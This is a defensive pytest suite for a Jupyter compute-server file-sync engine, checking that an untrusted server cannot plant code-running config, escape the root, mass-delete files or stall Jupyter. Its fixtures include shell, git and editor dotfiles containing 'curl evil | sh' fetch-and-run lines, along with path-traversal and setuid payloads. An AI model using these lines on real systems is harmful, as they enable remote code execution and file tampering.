"""A compute server is not trusted: what its sync process sends must never run code on the
Jupyter host, write outside the Jupyter root or stall Jupyter.

The engine runs here against the real sync agent in a process of its own (on pipes), or
against a hostile stand-in that answers with what it likes; the API tests use a real Jupyter
server (pytest-jupyter) with the extension."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import time
from pathlib import Path
from typing import Any

import pytest

from jupyter_compute_servers.agent import sync_agent
from jupyter_compute_servers.models import ServerConfig
from jupyter_compute_servers.store import ServerStore
from jupyter_compute_servers.sync import engine, transfer
from jupyter_compute_servers.sync.engine import SyncEngine, SyncRefused
from jupyter_compute_servers.sync.records import SyncStore
from jupyter_compute_servers.sync.settings import SyncSettings
from jupyter_compute_servers.sync.transfer import SyncSession

MARKER = ".jupyter-compute-servers-sync.json"


def files(root: Path) -> dict[str, bytes]:
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in root.rglob("*")
        if p.is_file() and not p.is_symlink() and p.name != MARKER
    }


def write(root: Path, tree: dict[str, str]) -> None:
    for name, content in tree.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(content)


class Pair:
    """The Jupyter root ("local"), a server's workspace ("remote"), a record, and the real
    sync agent serving the workspace in its own process."""

    def __init__(self, tmp: Path) -> None:
        self.local, self.remote = tmp / "local", tmp / "remote"
        self.local.mkdir()
        self.remote.mkdir()
        self.servers = ServerStore(f"sqlite:///{tmp / 'servers.db'}", clock=time.time)
        self.servers.create(
            name="box",
            color="#000000",
            notes="",
            cloud="local",
            config=ServerConfig(),
            idle_timeout_minutes=None,
            spend_limit=None,
        )
        self.store = SyncStore(self.servers.database)
        self.session: SyncSession | None = None

    async def sync(self, settings: SyncSettings | None = None, **kwargs: Any) -> dict[str, Any]:
        if self.session is None:
            self.session = await SyncSession.in_subprocess()
        await self.session.open(str(self.remote))
        engine = SyncEngine(
            local_root=str(self.local),
            session=self.session,
            store=self.store,
            server_id=1,
            server_name="box",
            settings=settings or SyncSettings(),
            **kwargs,
        )
        return (await engine.run()).to_json()

    async def close(self) -> None:
        if self.session is not None:
            await self.session.close()
        self.store.close()
        self.servers.close()


@pytest.fixture
def pair(tmp_path, jp_asyncio_loop):
    pair = Pair(tmp_path)
    yield pair
    jp_asyncio_loop.run_until_complete(pair.close())


# --- files that could run code here --------------------------------------------------------


async def test_a_pull_holds_back_what_could_run_code_here_until_allowed_by_name(pair):
    local, remote = pair.local, pair.remote
    write(local, {".npmrc": "registry=mine\n", ".Rprofile": "mine\n", "notes.txt": "hi"})
    first = await pair.sync()
    assert first["sent"]["files"] == 3 and first["held_back"]["files"] == 0
    # The server changes, adds and deletes files that shells, git, editors and runtimes read.
    evil = {
        ".bash_aliases": "alias ls='curl evil | sh'\n",
        ".zshenv": "curl evil | sh\n",
        ".gitconfig": "[core]\n\tfsmonitor = curl evil | sh\n",
        ".hgrc": "[hooks]\n",
        ".condarc": "channels: [evil]\n",
        ".vimrc": "!curl evil\n",
        ".envrc": "curl evil | sh\n",
        ".julia/config/startup.jl": "run(`curl evil`)\n",
        "proj/.envrc": "curl evil | sh\n",
        "proj/.vscode/settings.json": "{}\n",
        "sitecustomize.py": "import os\n",
        "lib/usercustomize.py": "import os\n",
        "jupyter_server_config.py": "c = 1\n",
        "bin/ls": "#!/bin/sh\ncurl evil | sh\n",
        ".npmrc": "registry=evil\n",
    }
    write(remote, evil)
    (remote / ".Rprofile").unlink()
    write(remote, {"results.csv": "1,2\n", "proj/main.py": "print(1)\n"})

    summary = await pair.sync()
    assert files(local) == {
        ".npmrc": b"registry=mine\n",
        ".Rprofile": b"mine\n",
        "notes.txt": b"hi",
        "results.csv": b"1,2\n",
        "proj/main.py": b"print(1)\n",
    }
    held = {entry["path"]: entry["action"] for entry in summary["held_back"]["paths"]}
    assert held == {**dict.fromkeys(evil, "pull"), ".Rprofile": "delete_local"}
    assert summary["held_back"]["files"] == len(evil) + 1
    assert summary["held_back"]["message"] == (
        f"held back: {len(evil) + 1} file(s) that could run code here; "
        "allow them by name in Sync settings"
    )
    assert summary["deleted"] == {"local": 0, "remote": 0}
    # Nothing is lost on the server either.
    assert files(remote) == {
        **{name: content.encode() for name, content in evil.items()},
        "notes.txt": b"hi",
        "results.csv": b"1,2\n",
        "proj/main.py": b"print(1)\n",
    }
    # Held back again next time (and still listed), until allowed by name.
    again = await pair.sync()
    assert again["held_back"]["files"] == len(evil) + 1 and again["received"]["files"] == 0
    allowed = SyncSettings(pull_executable_config=(".npmrc", "proj/", "/bin/ls", "!proj/.vscode/"))
    summary = await pair.sync(allowed)
    assert (local / ".npmrc").read_text() == "registry=evil\n"
    assert (local / "proj" / ".envrc").read_text() == "curl evil | sh\n"
    assert (local / "proj" / ".vscode" / "settings.json").exists()  # inside an allowed dir
    assert (local / "bin" / "ls").exists()
    assert not (local / ".bash_aliases").exists() and (local / ".Rprofile").exists()
    assert summary["held_back"]["files"] == len(evil) + 1 - 4


async def test_a_chmod_or_conflict_from_the_server_never_changes_a_held_back_file(pair):
    local, remote = pair.local, pair.remote
    write(local, {".envrc": "export A=1\n", ".env": "A=1\n"})
    await pair.sync()
    (remote / ".envrc").chmod(0o755)
    (remote / ".env").write_text("A=2, theirs\n")
    (local / ".env").write_text("A=3, mine\n")
    summary = await pair.sync()
    assert (local / ".envrc").stat().st_mode & 0o777 == 0o644
    assert (local / ".env").read_text() == "A=3, mine\n"
    assert (remote / ".env").read_text() == "A=2, theirs\n"
    assert sorted(files(local)) == [".env", ".envrc"]
    held = {entry["path"]: entry["action"] for entry in summary["held_back"]["paths"]}
    assert held == {".envrc": "chmod_local", ".env": "conflict"}


# --- mass deletions -------------------------------------------------------------------------


async def test_a_server_that_keeps_one_file_cannot_delete_every_copy_here_unasked(pair):
    names = {f"paper-{i}.tex": f"chapter {i}" for i in range(6)}
    write(pair.local, names)
    await pair.sync()
    for name in list(names)[1:]:
        (pair.remote / name).unlink()
    with pytest.raises(SyncRefused) as refused:
        await pair.sync()
    message = str(refused.value)
    assert "would delete 5 of the 6 synced file(s) on the Jupyter root" in message
    assert "limit of 50%" in message and "confirm_deletions" in message
    assert files(pair.local) == {k: v.encode() for k, v in names.items()}
    # A higher limit for this server, or a confirmation, lets it through.
    assert await pair.sync(SyncSettings(max_delete_percent=90)) is not None
    write(pair.remote, dict(list(names.items())[1:]))
    await pair.sync()
    for name in list(names)[1:]:
        (pair.remote / name).unlink()
    summary = await pair.sync(confirm_deletions=True)
    assert summary["deleted"] == {"local": 5, "remote": 0}
    assert summary["deletion_guard"] == {
        "local": 5,
        "remote": 0,
        "synced": 6,
        "max_percent": 50,
        "empty_side": None,
        "confirmed": True,
    }
    assert list(files(pair.local)) == ["paper-0.tex"]


# --- pulls in batches -------------------------------------------------------------------------


async def test_small_pulls_come_in_batches_and_only_what_was_asked_is_written(
    pair, tmp_path, monkeypatch
):
    remote = pair.remote
    small = {f"d{i % 7}/f{i}.txt": f"file {i}" for i in range(300)}
    write(remote, small)
    (remote / "large.bin").write_bytes(os.urandom(sync_agent.SYNC_SMALL * 3))
    session = pair.session = await SyncSession.in_subprocess()
    sent: list[dict[str, Any]] = []
    original_send = session.send
    outside = tmp_path / "outside.txt"
    outside.write_text("not synced")

    def send(message: dict[str, Any], payload: bytes = b"") -> None:
        sent.append(message)
        if message.get("op") == "gets" and "d3/f3.txt" in message["paths"]:
            # Between the scan and the batch: one file goes, one grows past a small file's
            # size, one becomes a link out of the tree.
            (remote / "d3/f3.txt").unlink()
            (remote / "d4/f4.txt").write_bytes(b"g" * (sync_agent.SYNC_SMALL + 1))
            (remote / "d5/f5.txt").unlink()
            (remote / "d5/f5.txt").symlink_to(outside)
        original_send(message, payload)

    monkeypatch.setattr(session, "send", send)
    summary = await pair.sync(direction="pull")
    ops = [m["op"] for m in sent]
    # 300 small files in 3 requests (at most 128 a batch), the large one streamed on its own.
    assert ops.count("gets") == 3 and ops.count("get") == 1, ops
    assert sorted(p for m in sent if m["op"] == "gets" for p in m["paths"]) == sorted(small)
    failed = {e["path"]: e["message"] for e in summary["errors"]}
    assert set(failed) == {"d3/f3.txt", "d4/f4.txt", "d5/f5.txt"}, failed
    assert "it will sync next time" in failed["d4/f4.txt"]
    assert summary["received"]["files"] == 298
    got = files(pair.local)
    assert got.pop("large.bin") == (remote / "large.bin").read_bytes()
    assert got == {k: v.encode() for k, v in small.items() if k not in failed}
    assert outside.read_text() == "not synced" and not (pair.local / "d5/f5.txt").exists()
    # Recorded as synced: the next sync brings only what changed, the grown file.
    again = await pair.sync(direction="pull")
    assert again["errors"] == [] and again["received"]["files"] == 1, again
    assert (pair.local / "d4/f4.txt").read_bytes() == b"g" * (sync_agent.SYNC_SMALL + 1)
    assert [e["path"] for e in again["changes"]] == ["d4/f4.txt"]


async def test_a_pulled_batch_is_recorded_only_once_it_is_durable_here(pair, monkeypatch):
    write(pair.remote, {f"f{i}.txt": f"file {i}" for i in range(200)})

    def fail(self: Any) -> None:
        raise OSError(5, "Input/output error")

    # The Jupyter root's flush fails (the server's, in its own process, does not): the files
    # are in place, but nothing may be recorded as synced.
    monkeypatch.setattr(sync_agent.SyncTree, "flush", fail)
    with pytest.raises(OSError):
        await pair.sync(direction="pull")
    assert len(files(pair.local)) == 200
    session = pair.session
    assert session is not None
    key = pair.store.tree(1, os.path.realpath(pair.local), session.root, session.tree_id)
    assert pair.store.load(key) == {}
    monkeypatch.undo()
    # The next sync finds them the same on both sides: recorded, nothing copied again.
    summary = await pair.sync(direction="pull")
    assert summary["received"]["files"] == 0 and summary["errors"] == [], summary
    assert len(pair.store.load(key)) == 200


# --- permissions -----------------------------------------------------------------------------


async def test_pulled_files_get_the_local_umask_and_the_server_keeps_its_modes(pair):
    remote = pair.remote
    write(remote, {"shared.txt": "x", "tool.sh": "#!/bin/sh\n", "private.txt": "p"})
    (remote / "shared.txt").chmod(0o666)
    (remote / "tool.sh").chmod(0o777)
    (remote / "private.txt").chmod(0o600)
    old = os.umask(0o027)
    try:
        summary = await pair.sync()
        assert summary["received"]["files"] == 3
        modes = {p.name: p.stat().st_mode & 0o777 for p in pair.local.iterdir() if p.is_file()}
        assert modes["shared.txt"] == 0o640
        assert modes["tool.sh"] == 0o750
        assert modes["private.txt"] == 0o600
        # Nothing to do next time, and the server's modes were left alone.
        again = await pair.sync()
        assert again["changes"] == [] and again["chmod"] == {"local": 0, "remote": 0}
        assert (remote / "shared.txt").stat().st_mode & 0o777 == 0o666
        assert (remote / "tool.sh").stat().st_mode & 0o777 == 0o777
        # A mode the server changes comes through the umask too.
        (remote / "private.txt").chmod(0o777)
        chmod = await pair.sync()
        assert chmod["chmod"] == {"local": 1, "remote": 0}
        assert (pair.local / "private.txt").stat().st_mode & 0o777 == 0o750
    finally:
        os.umask(old)


# --- a hostile sync agent against a real Jupyter server ------------------------------------


class _Source:
    """What the hostile agent sends: bytes, or an endless stream of them."""

    def __init__(self, data: bytes = b"", endless: bytes = b"") -> None:
        self.data, self.endless = data, endless


class HostileAgent:
    """A stand-in for the server's sync process, on the wire: it reads the engine's requests
    and answers, per operation, with what ``answers`` says (bytes, or an endless stream), so
    the real framing, limits and checks on our side meet it. Counts what was read of it."""

    def __init__(self, answers: dict[str, Any]) -> None:
        self.answers = answers
        self.queue: list[_Source] = []
        self.pending = b""
        self.read_bytes = 0
        self.requests: list[dict[str, Any]] = []
        self.put: dict[str, Any] | None = None
        self.more = asyncio.Event()

    # The engine's end of the channel: requests in.
    def write(self, data: bytes) -> None:
        self.pending += data
        while True:
            if self.put is not None and self.put["op"] == "puts":
                # A batch of small files: taken, and answered as written, one result each.
                size = self.put["size"]
                if len(self.pending) < size:
                    return
                content, self.pending = self.pending[:size], self.pending[size:]
                results, offset = [], 0
                for _path, n, *_ in self.put["files"]:
                    digest = hashlib.sha256(content[offset : offset + n]).hexdigest()
                    results.append({"ok": True, "hash": digest, "sig": [n, 1, 99, 1]})
                    offset += n
                self.put = None
                answer = json.dumps(results).encode()
                reply = self.answers.get("puts", line({"ok": True, "size": len(answer)}) + answer)
                self.queue.append(reply if isinstance(reply, _Source) else _Source(reply))
                self.more.set()
                continue
            if self.put is not None:
                # A put's data and trailer: taken, and answered as written.
                size = self.put["size"]
                if len(self.pending) < size or b"\n" not in self.pending[size:]:
                    return
                content, self.pending = self.pending[:size], self.pending[size:]
                self.pending = self.pending.partition(b"\n")[2]
                self.put = None
                digest = hashlib.sha256(content).hexdigest()
                sig = [size, 1, 99, 1]
                self.queue.append(_Source(line({"ok": True, "hash": digest, "sig": sig})))
                self.more.set()
                continue
            if b"\n" not in self.pending:
                return
            request_line, _, self.pending = self.pending.partition(b"\n")
            request = json.loads(request_line)
            self.requests.append(request)
            if request.get("op") in ("put", "puts"):
                self.put = request
                continue
            answer = self.answers.get(request.get("op"), b'{"ok":true}\n')
            if callable(answer):
                answer = answer(request)
            self.queue.append(answer if isinstance(answer, _Source) else _Source(answer))
            self.more.set()

    async def drain(self) -> None:
        await asyncio.sleep(0)

    # Answers out.
    async def read(self, n: int) -> bytes:
        while True:
            while self.queue and not self.queue[0].data and not self.queue[0].endless:
                self.queue.pop(0)
            if self.queue:
                break
            self.more.clear()
            await self.more.wait()
        source = self.queue[0]
        await asyncio.sleep(0)  # a network: other tasks run between reads
        if source.data:
            chunk, source.data = source.data[:n], source.data[n:]
        else:
            chunk = (source.endless * (n // len(source.endless) + 1))[:n]
        self.read_bytes += len(chunk)
        return chunk

    async def readexactly(self, n: int) -> bytes:
        out = b""
        while len(out) < n:
            out += await self.read(n - len(out))
        return out

    def session(self) -> SyncSession:
        async def close() -> None:
            return None

        return SyncSession(self, self, close, lambda: True)


def line(message: Any) -> bytes:
    return json.dumps(message).encode() + b"\n"


def scan_answer(files: list[list[Any]], lists: dict[str, int] | None = None) -> bytes:
    head = {"token": "t", "lists": lists or {"files": len(files), "skipped": 0, "pruned": 0}}
    payload = line(head) + b"".join(
        line(["files", files[i : i + 1000]]) for i in range(0, len(files), 1000)
    )
    return line({"ok": True, "size": len(payload)}) + payload


def gets_answer(results: list[dict[str, Any]], data: bytes) -> bytes:
    """A ``gets`` answer: the index of results, then the files' contents."""
    index = json.dumps(results).encode()
    return line({"ok": True, "size": len(index) + len(data), "index": len(index)}) + index + data


OPEN = line({"ok": True, "root": "/srv/workspace", "tree_id": "f" * 32})


async def test_jupyter_stays_responsive_and_writes_nothing_against_a_hostile_sync_agent(
    api, wait_for_state, jp_serverapp, jp_root_dir, monkeypatch
):
    service = jp_serverapp.web_app.settings["compute_servers_sync"]
    _, server = await api("POST", "servers", {"name": "box"})
    await api("POST", f"servers/{server['id']}/actions/start")
    server = await wait_for_state(server["id"], "running", "error")
    assert server["state"] == "running", server
    (jp_root_dir / "mine.txt").write_text("mine")
    before = files(jp_root_dir)
    agent: list[HostileAgent] = []

    async def hostile_session(server_id: int, python: str) -> SyncSession:
        return agent[-1].session()

    monkeypatch.setattr(service, "_session", hostile_session)

    # Parsing and checking the server's answers, watched: status answers that come while
    # it is under way are counted (none could, were it done on the event loop).
    checking = {"now": 0}

    def watched(function: Any) -> Any:
        def call(*args: Any, **kwargs: Any) -> Any:
            checking["now"] += 1
            try:
                return function(*args, **kwargs)
            finally:
                checking["now"] -= 1

        return call

    monkeypatch.setattr(transfer, "parse_payload", watched(transfer.parse_payload))
    monkeypatch.setattr(engine, "side_from_scan", watched(engine.side_from_scan))
    answered_while_checking: list[int] = []

    async def run(answers: dict[str, Any], body: dict | None = None) -> dict[str, Any]:
        """A sync against such an agent; Jupyter's status answers all along."""
        agent.append(HostileAgent({"open": OPEN, **answers}))
        code, started = await api("POST", f"servers/{server['id']}/sync", body or {})
        assert code == 202, started
        answered_while_checking.append(0)
        while True:
            code, status = await api("GET", "status")
            assert code == 200, status
            if checking["now"]:
                answered_while_checking[-1] += 1
            code, sync = await api("GET", f"servers/{server['id']}/syncs/{started['id']}")
            assert code == 200
            if sync["state"] != "running":
                return sync

    # The first walk of the Jupyter root made slow, so that the server's refusal comes while it
    # still runs: the sync must not end (closing the tree it walks) before the walk does, or
    # the root's change journal would keep a broken walk and later syncs miss mine.txt (the
    # batch of puts below must carry it).
    original_scan = sync_agent.SyncTree.scan
    slowed: list[int] = []

    def slow_first_scan(self: Any, *args: Any, **kwargs: Any) -> Any:
        if not slowed:
            slowed.append(1)
            time.sleep(0.5)
        return original_scan(self, *args, **kwargs)

    monkeypatch.setattr(sync_agent.SyncTree, "scan", slow_first_scan)

    # An answer announced as 10 GiB: refused before it is read.
    sync = await run({"scan": line({"ok": True, "size": 10 << 30})})
    assert slowed
    assert sync["state"] == "failed"
    assert "server 'box'" in sync["error"] and "SyncService.max_answer_mb" in sync["error"]
    assert "more than the limit of 268435456 bytes" in sync["error"]
    assert agent[-1].read_bytes < 1 << 20

    # One endless line: refused once it is longer than a message line may be.
    sync = await run({"scan": _Source(endless=b"x" * 4096)})
    assert sync["state"] == "failed", sync
    assert "server 'box'" in sync["error"] and "longer than the limit of 65536" in sync["error"]
    assert agent[-1].read_bytes < 1 << 20

    # More entries than allowed (the limit lowered for the test).
    monkeypatch.setattr(service, "max_scan_entries", 1000)
    many = [[f"f{i}.txt", 1, 1, 0o644, i, 1] for i in range(1500)]
    sync = await run({"scan": scan_answer(many)})
    assert sync["state"] == "failed"
    assert "1500 entries, more than the limit of 1000" in sync["error"]
    assert "server 'box'" in sync["error"]
    monkeypatch.setattr(service, "max_scan_entries", 1_000_000)

    # Malformed: JSON nested too deep for a parser, a line that is not JSON, counts that lie,
    # paths out of the tree.
    deep = b"[" * 30000 + b"]" * 30000 + b"\n"
    for answers, expected in [
        ({"scan": deep}, "answered nonsense"),
        ({"scan": line({"ok": True, "size": 8}) + b"{nope}\n\n"}, "malformed answer"),
        ({"scan": line({"ok": True, "size": 12}) + b'{"lists":{}}'}, "does not end"),
        ({"scan": scan_answer([], {"files": 3})}, "fewer files than it announced"),
        ({"scan": scan_answer([["../../.bashrc", 1, 1, 0o644, 1, 1]])}, "invalid path"),
        ({"scan": scan_answer([["/etc/cron.d/x", 1, 1, 0o644, 1, 1]])}, "invalid path"),
        ({"scan": scan_answer([["a.txt", 1, 1, 0o7777, 1, 1]])}, "bad file entry"),
    ]:
        sync = await run(answers)
        assert sync["state"] == "failed", (answers, sync)
        assert expected in sync["error"] and "server 'box'" in sync["error"], sync["error"]

    # A large answer, well-formed until its last entry: parsed and checked on a thread while
    # the status keeps answering; then refused.
    large = [[f"d{i // 1000}/f{i}.txt", 10, 1, 0o644, i, 1] for i in range(150_000)]
    large.append(["../escape", 1, 1, 0o644, 1, 1])
    sync = await run({"scan": scan_answer(large)})
    assert sync["state"] == "failed" and "invalid path" in sync["error"]
    assert answered_while_checking[-1] > 0

    # A batch of small files answered with results that are not one per file, or announced
    # larger than a batch's answer may be: the sync fails, and nothing is recorded as sent.
    for puts, expected in [
        (line({"ok": True, "size": 2}) + b"[]", "malformed answer to a batch of 1 files"),
        (line({"ok": True, "size": 9}) + b'[1,2,"x"]', "malformed answer to a batch"),
        (line({"ok": True, "size": 10 << 30}), "more than the limit of 1048576 bytes"),
    ]:
        sync = await run({"scan": scan_answer([]), "puts": puts})
        assert [r["op"] for r in agent[-1].requests][:3] == ["open", "scan", "puts"], str(sync)
        assert sync["state"] == "failed", sync
        assert expected in sync["error"] and "server 'box'" in sync["error"], sync["error"]
        assert sync["summary"] is None or sync["summary"]["sent"]["files"] == 0, sync
        assert agent[-1].read_bytes < 1 << 20

    # A batch of small files pulled (``gets``), answered with what was not asked: results that
    # are not one per file, sizes over a small file's or that do not add up to the data, a
    # mode out of range, an answer announced larger than a batch's may be. The sync fails and
    # nothing is written here.
    listed = scan_answer([["a.txt", 4, 10**18, 0o644, 1, 1]])
    fine = {"ok": True, "mode": 0o644, "mtime_ns": 10**18, "sig": [4, 10**18, 7, 1]}
    for gets, expected in [
        (gets_answer([], b""), "malformed answer to a batch of 1 files"),
        (gets_answer([fine, fine], b"abcdabcd"), "malformed answer to a batch of 1 files"),
        (gets_answer([dict(fine, size=4)], b"abcdEXTRA"), "malformed answer to a batch"),
        (gets_answer([dict(fine, size=9)], b"abcd"), "malformed answer to a batch"),
        (gets_answer([dict(fine, size=1 << 20)], bytes(1 << 20)), "malformed answer"),
        (gets_answer([dict(fine, size=4, mode=0o4755)], b"abcd"), "malformed answer"),
        (line({"ok": True, "size": 10 << 30, "index": 2}), "more than the limit of"),
        (line({"ok": True, "size": 4, "index": 9}) + b"abcd", "malformed answer"),
    ]:
        sync = await run({"scan": listed, "gets": gets}, {"direction": "pull"})
        assert [r["op"] for r in agent[-1].requests] == ["open", "scan", "gets"], str(sync)
        assert agent[-1].requests[-1]["paths"] == ["a.txt"]
        assert sync["state"] == "failed", sync
        assert expected in sync["error"] and "server 'box'" in sync["error"], sync["error"]
        assert files(jp_root_dir) == before
        assert agent[-1].read_bytes < 2 << 20
    # A result that names another file (out of the tree): answers count by position, so only
    # the file asked for is written, under its own name.
    named = dict(fine, size=4, path="../../escape.txt", name="../../escape.txt")
    sync = await run({"scan": listed, "gets": gets_answer([named], b"abcd")}, {"direction": "pull"})
    assert sync["state"] == "completed" and sync["summary"]["received"]["files"] == 1, sync
    assert files(jp_root_dir) == {**before, "a.txt": b"abcd"}
    assert not (jp_root_dir.parent.parent / "escape.txt").exists()
    assert not [p for p in jp_root_dir.parent.rglob("*escape*")]
    (jp_root_dir / "a.txt").unlink()
    before = files(jp_root_dir)

    # Executable configuration among ordinary files: only the ordinary ones arrive, with
    # the local umask, and the rest is listed as held back.
    served = {
        "ok.txt": b"fine",
        ".bash_aliases": b"evil",
        ".gitconfig": b"evil",
        "proj/.envrc": b"evil",
        "bin/ls": b"evil",
        "sitecustomize.py": b"evil",
    }

    def gets(request: dict[str, Any]) -> bytes:
        data = [served[path] for path in request["paths"]]
        results = [
            {
                "ok": True,
                "size": len(d),
                "mode": 0o777,
                "mtime_ns": 10**18,
                "sig": [len(d), 1, 7, 1],
            }
            for d in data
        ]
        return gets_answer(results, b"".join(data))

    listing = [
        [path, len(data), 10**18, 0o777, i, 1] for i, (path, data) in enumerate(served.items())
    ]
    sync = await run({"scan": scan_answer(listing), "gets": gets})
    assert sync["state"] == "completed", sync
    assert [r["paths"] for r in agent[-1].requests if r["op"] in ("get", "gets")] == [["ok.txt"]]
    assert files(jp_root_dir) == {**before, "ok.txt": b"fine"}
    assert (jp_root_dir / "ok.txt").stat().st_mode & 0o777 == 0o777 & ~_umask()
    assert sync["summary"]["held_back"]["files"] == 5
    # Nothing else anywhere: no temporary files left, nothing outside the root.
    assert files(jp_root_dir) == {**before, "ok.txt": b"fine"}
    assert not [p for p in jp_root_dir.parent.rglob("*escape*")]
    await api("POST", f"servers/{server['id']}/actions/stop")
    await wait_for_state(server["id"], "off", "error")


def _umask() -> int:
    old = os.umask(0o022)
    os.umask(old)
    return old
